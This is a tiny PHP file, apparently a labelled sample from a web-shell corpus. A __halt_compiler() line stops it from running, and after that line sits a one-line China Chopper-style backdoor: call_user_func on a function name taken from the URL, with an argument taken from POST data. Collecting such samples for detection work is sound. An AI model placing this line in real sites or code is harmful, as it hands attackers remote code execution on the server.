<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php call_user_func($_GET['f'], $_POST['chopper']); ?>